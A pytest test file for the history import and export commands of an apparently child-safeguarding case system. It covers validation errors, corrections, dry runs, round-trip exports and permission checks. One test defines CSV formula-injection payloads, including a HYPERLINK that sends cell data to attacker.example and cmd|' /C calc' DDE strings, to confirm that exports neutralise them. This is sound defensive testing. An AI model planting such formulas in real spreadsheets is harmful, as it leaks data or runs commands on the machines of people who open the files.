"""`safehub import history` and `safehub export history`: the history format (issue 6)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.test import Client

from safehub.access.models import Role, User
from safehub.access.policy import SYSTEM, AccessDeniedError
from safehub.audit.models import AuditEvent
from safehub.casefile.queries import record_as_of
from safehub.episodes.models import Episode, MissingEpisode, RiskChange
from safehub.geo import services as geo
from safehub.interchange import exporter, formats, importer
from safehub.interchange.models import LegacyIdentifier
from safehub.people import services as people
from safehub.people.models import AddressPeriod, CarePeriod, CaseNote, Child, ChildAlias
from safehub.referrals import services as referrals
from safehub.referrals.models import Decision, Referral, Screening

ROOT = Path(__file__).resolve().parents[2]
EXAMPLES = ROOT / "docs" / "examples" / "history"
CASE_MODELS = (
    Decision,
    Screening,
    Referral,
    RiskChange,
    MissingEpisode,
    Episode,
    AddressPeriod,
    CarePeriod,
    ChildAlias,
    CaseNote,
    Child,
)


@pytest.fixture(autouse=True)
def wards() -> None:
    geo.load_reference_data(acting_user=SYSTEM)


@pytest.fixture
def example(tmp_path: Path) -> Path:
    target = tmp_path / "example"
    shutil.copytree(EXAMPLES, target)
    return target


def _import(directory: Path, *extra: str) -> tuple[str, str]:
    out, err = io.StringIO(), io.StringIO()
    call_command("import", "history", str(directory), *extra, stdout=out, stderr=err)
    return out.getvalue(), err.getvalue()


def _export(directory: Path, *extra: str) -> str:
    out = io.StringIO()
    call_command("export", "history", str(directory), *extra, stdout=out)
    return out.getvalue()


def _counts() -> dict[str, int]:
    return {m.__name__: m.objects.count() for m in CASE_MODELS} | {
        "legacy": LegacyIdentifier.objects.count()
    }


def _edit(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


def _child(legacy_id: str) -> Child:
    pk = LegacyIdentifier.objects.get(kind="children", legacy_id=legacy_id).object_id
    return Child.objects.get(pk=pk)


def test_the_example_set_imports_and_importing_it_twice_adds_nothing(example: Path) -> None:
    out, err = _import(example)
    assert "Imported from example-legacy-cms" in out
    assert "risk_changes: 6 of 6 written" in err  # progress, for large sets
    assert "children.csv: 3 rows, 3 new, 0 corrected, 0 unchanged" in out
    assert _counts() == {
        "Decision": 4,
        "Screening": 4,
        "Referral": 4,
        "RiskChange": 6,
        "MissingEpisode": 2,
        "Episode": 3,
        "AddressPeriod": 5,
        "CarePeriod": 0,
        "ChildAlias": 0,
        "CaseNote": 0,
        "Child": 3,
        "legacy": 31,
    }
    testa = _child("LC-0001")
    assert (testa.given_name, testa.nhs_number, testa.ethnicity_source) == (
        "Testa",
        "9990000018",
        "self_identified",
    )
    # Marked with its source and legacy identifier.
    marks = LegacyIdentifier.objects.filter(object_id=testa.pk, kind="children")
    assert [(m.source_system, m.legacy_id) for m in marks] == [("example-legacy-cms", "LC-0001")]
    # The record time is the row's recorded_at, else the extract's time.
    [created] = testa.history.all()
    assert created.history_date == dt.datetime(2015, 6, 2, 8, 0, tzinfo=dt.UTC)
    assert created.history_change_reason.startswith("import from example-legacy-cms")
    exemplo = _child("LC-0002")
    assert exemplo.history.get().history_date == dt.datetime(2024, 3, 31, 17, 0, tzinfo=dt.UTC)
    high = RiskChange.objects.get(level="high", episode__child=testa)
    assert high.recorded_at == dt.datetime(2015, 11, 20, 17, 30, tzinfo=dt.UTC)
    assert AddressPeriod.objects.get(postcode="BD4 0AA").ward.name == "Tong"  # type: ignore[union-attr]
    screening = Screening.objects.get(referral__external_reference="LEGACY-2015-0398")
    assert (screening.tool_id, screening.computed_level, screening.final_level) == (
        "recorded-level",
        "medium",
        "high",
    )
    assert Referral.objects.get(external_reference="LEGACY-2015-0143").exploitation_types == [
        "cse",
        "online",
    ]
    [event] = AuditEvent.objects.filter(action="history:imported")
    assert (event.object_id, event.channel) == ("example-legacy-cms", "cli")

    before = _counts()
    again, _ = _import(example)
    assert "children.csv: 3 rows, 0 new, 0 corrected, 3 unchanged" in again
    assert "risk_changes.csv: 6 rows, 0 new, 0 corrected, 6 unchanged" in again
    assert _counts() == before
    assert testa.history.count() == 1


def test_a_broken_reference_and_a_bad_date_are_refused_and_nothing_is_imported(
    example: Path,
) -> None:
    _edit(example / "risk_changes.csv", "LR-05,LE-02,", "LR-05,LE-99,")
    _edit(example / "children.csv", "2003-07-19", "2003-02-30")
    err = io.StringIO()
    with pytest.raises(CommandError, match=r"2 problem\(s\) in .*; nothing was imported"):
        call_command("import", "history", str(example), stderr=err)
    assert err.getvalue().splitlines() == [
        "children.csv: row 3, date_of_birth: '2003-02-30' is not a real date like 2009-03-14",
        (
            "risk_changes.csv: row 6, episode_id: 'LE-99' is not a row of episodes.csv or of an "
            "earlier import"
        ),
    ]
    assert set(_counts().values()) == {0}
    assert not AuditEvent.objects.filter(action="history:imported").exists()


def test_every_problem_is_listed_with_file_row_and_column(example: Path) -> None:
    _edit(
        example / "addresses.csv",
        "LA-04,LC-0003,2010-05-01,2019-08-15",
        "LA-04,LC-0003,2010-05-01,2019-09-15",
    )
    _edit(
        example / "episodes.csv",
        "LE-02,LC-0002,2016-10-03,,",
        "LE-02,LC-0002,2016-10-03,2016-09-01,",
    )
    _edit(example / "referrals.csv", ",6,cse;online,", ",6,cse;lunch,")
    _edit(
        example / "referrals.csv", "adult visitor.,,LE-03", "adult visitor.,LEGACY-2015-0398,LE-03"
    )
    _edit(
        example / "screenings.csv",
        "LS-004,LF-004,2019-09-02,,,low",
        "LS-004,LF-004,2019-09-02,,,severe",
    )
    _edit(example / "decisions.csv", "LD-004,LF-004", "LD-004,LF-003")
    _edit(
        example / "missing_episodes.csv",
        "LM-02,LC-0002,absent,2017-01-14T19:00:00+00:00",
        "LM-02,LC-0002,absent,2017-01-14 19:00",
    )
    _edit(example / "children.csv", "999 000 0026", "9990000027")
    with pytest.raises(importer.HistoryImportError) as refused:
        importer.import_history(example, acting_user=SYSTEM)
    # Grouped by file, in the format's order, then by row.
    assert [str(p) for p in refused.value.result.problems] == [
        "children.csv: row 4, nhs_number: is not a valid NHS number",
        "addresses.csv: row 6, valid_from: overlaps row 5 for the same child",
        "episodes.csv: row 3, closed_on: must be on or after opened_on",
        (
            "referrals.csv: row 2, exploitation_types: 'lunch' is not a known code "
            "(cse, cce, trafficking, online)"
        ),
        "referrals.csv: row 5, external_reference: is also on row 3",
        (
            "screenings.csv: row 5, computed_level: 'severe' is not a known code "
            "(none, low, medium, high)"
        ),
        "decisions.csv: row 5, referral_id: has a decision on row 4",
        (
            "missing_episodes.csv: row 3, started_at: '2017-01-14 19:00' is not a real date and "
            "time with an offset, like 2016-10-03T10:15:00+01:00"
        ),
    ]
    assert set(_counts().values()) == {0}


def test_a_changed_row_becomes_a_recorded_correction_not_a_duplicate(
    example: Path, make_user: Callable[..., User]
) -> None:
    manager = make_user(Role.HUB_MANAGER)
    _import(example)
    _edit(example / "manifest.json", "2024-03-31T18:00:00+01:00", "2024-06-30T18:00:00+01:00")
    _edit(example / "children.csv", "Sample Primary School", "Example High School")
    _edit(example / "risk_changes.csv", "LR-03,LE-01,low,", "LR-03,LE-01,medium,")
    _edit(
        example / "risk_changes.csv",
        "LR-06,LE-03,low,2019-09-02,Screened at referral,",
        "LR-06,LE-03,low,2019-09-02,Screened at referral,\n"
        "LR-07,LE-03,medium,2020-01-06,Seen with an adult of concern,",
    )
    before = _counts()
    out, _ = _import(example, "--as", manager.username)
    assert "children.csv: 3 rows, 0 new, 1 corrected, 2 unchanged" in out
    assert "risk_changes.csv: 7 rows, 1 new, 1 corrected, 5 unchanged" in out
    assert _counts() == before | {
        "RiskChange": before["RiskChange"] + 1,
        "legacy": before["legacy"] + 1,
    }
    placeholda = _child("LC-0003")
    assert placeholda.school == "Example High School"
    latest, first = placeholda.history.order_by("-history_date")
    assert (first.school, latest.school) == ("Sample Primary School", "Example High School")
    assert latest.history_user == manager
    assert latest.history_change_reason == (
        "import correction from example-legacy-cms 2024-06-30T18:00:00+0100"
    )
    assert latest.history_date == dt.datetime(2024, 6, 30, 17, 0, tzinfo=dt.UTC)
    corrected = RiskChange.objects.get(reason="Engaging with youth worker")
    assert corrected.level == "medium"
    assert corrected.history.count() == 2


def test_a_dry_run_checks_and_counts_and_writes_nothing(example: Path) -> None:
    out, _ = _import(example, "--dry-run")
    assert "Dry run: nothing was written. Would import from example-legacy-cms" in out
    assert "referrals.csv: 4 rows, 4 new, 0 corrected, 0 unchanged" in out
    assert set(_counts().values()) == {0}
    assert not AuditEvent.objects.filter(action="history:imported").exists()


def test_the_record_as_it_stood_on_an_earlier_date(
    example: Path, hub_practitioner_client: Client
) -> None:
    _import(example)
    testa = _child("LC-0001")
    then = record_as_of(testa, dt.date(2015, 12, 1))
    assert then.address is not None
    assert (then.address.postcode, then.risk_level) == ("BD4 0AA", "high")
    later = record_as_of(testa, dt.date(2016, 10, 1))
    assert later.address is not None
    assert (later.address.postcode, later.risk_level) == ("BD6 3AA", "low")
    assert record_as_of(testa, dt.date(2018, 1, 1)).risk_level is None  # the episode closed

    page = hub_practitioner_client.get(
        f"/children/{testa.pk}", {"on_0": "1", "on_1": "12", "on_2": "2015"}
    )
    assert page.status_code == 200
    html = page.content.decode()
    address = re.search(r'id="address">(.*?)</dd>', html, re.DOTALL)
    assert address is not None
    assert "BD4 0AA, Tong ward" in address.group(1)
    assert 'app-risk-high">High</strong>' in html
    now = hub_practitioner_client.get(f"/children/{testa.pk}").content.decode()
    assert "BD6 3AA, Wibsey ward" in now
    assert "Not held as at risk" in now


def test_export_import_into_an_empty_database_and_export_again_gives_identical_files(
    example: Path, tmp_path: Path, make_user: Callable[..., User]
) -> None:
    _import(example)
    # A record made in Safehub itself, with no legacy identifier, goes round too.
    practitioner = make_user(Role.HUB_PRACTITIONER)
    child = people.register_child(
        acting_user=practitioner,
        given_name="Nativa",
        family_name="Madeup",
        date_of_birth="2005-01-02",
        sex="F",
    )
    people.record_address(
        child, valid_from=dt.date(2023, 4, 1), ward_code="E05001352", acting_user=practitioner
    )
    first, second = tmp_path / "first", tmp_path / "second"
    _export(first)
    children = (first / "children.csv").read_text(encoding="utf-8").splitlines()
    assert children[0] == ",".join(formats.CHILDREN.names)
    assert children[1].startswith("example-legacy-cms:LC-0001,Testa,")
    assert children[-1].startswith(f"safehub:child:{child.pk},Nativa,")

    for model in CASE_MODELS:
        model.objects.all().delete()
    LegacyIdentifier.objects.all().delete()
    _import(first)
    _export(second)
    names = sorted(p.name for p in first.iterdir())
    assert names == sorted([formats.MANIFEST, *(spec.filename for spec in formats.FILES)])
    assert sorted(p.name for p in second.iterdir()) == names
    for name in names:
        assert (second / name).read_bytes() == (first / name).read_bytes(), name
    manifest = json.loads((first / formats.MANIFEST).read_text(encoding="utf-8"))
    assert manifest["source_system"] == "safehub"


# What a spreadsheet would run as a formula if a cell began with it (OWASP CSV injection).
HOSTILE = {
    "given_name": '=HYPERLINK("http://attacker.example/?x="&A1,"Click")',
    "family_name": "+cmd|' /C calc'!A0",
    "school": "@SUM(1+1)*cmd|' /C calc'!A0",
    "nationality": "-2+3+cmd|' /C calc'!A0",
    "first_language": "'=already quoted",
}


def test_exported_cells_cannot_run_as_spreadsheet_formulas_and_import_restores_them(
    tmp_path: Path, make_user: Callable[..., User]
) -> None:
    practitioner = make_user(Role.HUB_PRACTITIONER)
    child = people.register_child(
        acting_user=practitioner, date_of_birth="2005-01-02", sex="F", **HOSTILE
    )
    people.record_address(
        child, valid_from=dt.date(2023, 4, 1), ward_code="E05001352", acting_user=practitioner
    )
    first, second = tmp_path / "first", tmp_path / "second"
    _export(first)
    with (first / "children.csv").open(encoding="utf-8", newline="") as stream:
        (row,) = list(csv.DictReader(stream))
    assert row["given_name"] == "'" + HOSTILE["given_name"]
    assert row["family_name"] == "'" + HOSTILE["family_name"]
    assert row["school"] == "'" + HOSTILE["school"]
    assert row["nationality"] == "'" + HOSTILE["nationality"]
    assert row["first_language"] == "''=already quoted"
    # Dates and other typed values are written as they are.
    assert row["date_of_birth"] == "2005-01-02"
    assert row["recorded_at"][:4].isdigit()
    for cell in row.values():
        assert not cell or cell[0] not in "=+-@\t\r", cell

    for model in CASE_MODELS:
        model.objects.all().delete()
    LegacyIdentifier.objects.all().delete()
    _import(first)
    imported = Child.objects.get()
    assert {name: getattr(imported, name) for name in HOSTILE} == HOSTILE
    _export(second)
    for spec in formats.FILES:
        assert (second / spec.filename).read_bytes() == (first / spec.filename).read_bytes()


def test_records_withdrawn_in_error_are_not_exported_to_count_again(
    tmp_path: Path, make_user: Callable[..., User]
) -> None:
    practitioner = make_user(Role.HUB_PRACTITIONER)
    child = people.register_child(
        acting_user=practitioner,
        given_name="Withdrawn",
        family_name="Exportcase",
        date_of_birth="2008-05-06",
        sex="M",
    )
    kept, wrong = (
        referrals.receive_referral(
            child=child,
            received_at=dt.datetime(2024, 3, day, 10, tzinfo=dt.UTC),
            source="6",
            concerns="Concerns",
            exploitation_types=["cce"],
            acting_user=practitioner,
        )
        for day in (4, 5)
    )
    referrals.record_screening(wrong, {"disclosure": True}, acting_user=practitioner)
    referrals.withdraw_referral(wrong, reason="Entered twice", acting_user=practitioner)
    _export(tmp_path / "out")
    with (tmp_path / "out" / "referrals.csv").open(encoding="utf-8", newline="") as stream:
        exported = [row["received_at"] for row in csv.DictReader(stream)]
    assert exported == [kept.received_at.isoformat()]
    for name in ("screenings", "episodes", "risk_changes", "decisions"):
        with (tmp_path / "out" / f"{name}.csv").open(encoding="utf-8", newline="") as stream:
            assert list(csv.DictReader(stream)) == [], name


def test_export_is_scoped_permitted_and_audited(
    example: Path, tmp_path: Path, make_user: Callable[..., User]
) -> None:
    _import(example)
    admin = make_user(Role.ADMINISTRATOR)
    out = _export(tmp_path / "out", "--as", admin.username)
    assert "children.csv: 3 rows" in out
    [event] = AuditEvent.objects.filter(action="history:exported")
    assert (event.actor, event.object_id) == (admin, "3")
    assert "referrals: 4" in event.reason

    practitioner = make_user(Role.HUB_PRACTITIONER)
    partner = make_user(Role.PARTNER_WORKER)
    for user in (practitioner, partner):
        with pytest.raises(AccessDeniedError) as refused:
            exporter.export_history(tmp_path / "no", acting_user=user)
        assert refused.value.permission == "history:export"
    assert not (tmp_path / "no").exists()


def test_only_a_hub_manager_or_the_operator_may_import(
    example: Path, make_user: Callable[..., User]
) -> None:
    for role in (Role.HUB_PRACTITIONER, Role.ADMINISTRATOR, Role.ANALYST):
        with pytest.raises(AccessDeniedError) as refused:
            importer.import_history(example, acting_user=make_user(role))
        assert refused.value.permission == "history:import"
    with pytest.raises(CommandError, match="No active user is called 'nobody'"):
        _import(example, "--as", "nobody")
    assert set(_counts().values()) == {0}


def test_the_manifest_and_headers_are_checked(example: Path) -> None:
    (example / "manifest.json").write_text(
        '{"format": "other", "version": 1, "source_system": "bad name", "extracted_at": '
        '"2024-03-31"}',
        encoding="utf-8",
    )
    with pytest.raises(importer.HistoryImportError) as refused:
        importer.import_history(example, acting_user=SYSTEM)
    assert [p.field for p in refused.value.result.problems] == [
        "format",
        "source_system",
        "extracted_at",
    ]
    shutil.copy(EXAMPLES / "manifest.json", example / "manifest.json")
    _edit(example / "episodes.csv", "closure_reason", "closure_reasn")
    with pytest.raises(importer.HistoryImportError) as refused:
        importer.import_history(example, acting_user=SYSTEM)
    assert [str(p) for p in refused.value.result.problems] == [
        "episodes.csv: row 1, closure_reasn: is not a column of the format"
    ]


def test_the_docs_describe_every_file_and_column() -> None:
    docs = (ROOT / "docs" / "history-format.md").read_text(encoding="utf-8")
    for spec in formats.FILES:
        assert f"## {spec.filename}" in docs
        for column in spec.columns:
            assert f"| `{column.name}` |" in docs, f"{spec.filename} {column.name}"
    for key in formats.MANIFEST_KEYS:
        assert f"`{key}`" in docs
